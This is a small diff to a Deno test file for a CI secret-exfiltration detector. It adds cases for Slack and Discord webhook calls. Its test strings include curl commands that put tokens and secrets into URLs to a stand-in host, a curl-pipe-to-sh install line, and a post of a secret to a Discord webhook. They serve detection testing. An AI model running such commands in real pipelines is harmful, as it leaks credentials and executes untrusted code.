@@ -59,6 +59,8 @@ Deno.test("secret-exfiltration: network commands and hosts; known services are n
   assert.equal(fire("curl https://x.example/?t=${{ secrets.GITHUB_TOKEN }}"), 0);
   assert.equal(fire("echo $T | ./deploy https://x.example", env), 0);
   assert.equal(fire("curl https://x.example/install.sh | sh"), 0);
+  assert.equal(fire("curl -d ok https://hooks.slack.com/services/${{ secrets.SLACK }}"), 0);
+  assert.equal(fire("curl -d t=$T https://discord.com/api/webhooks/1/x", env), 1);
   // fetch() in github-script.
   const script = only(
     "secret-exfiltration",
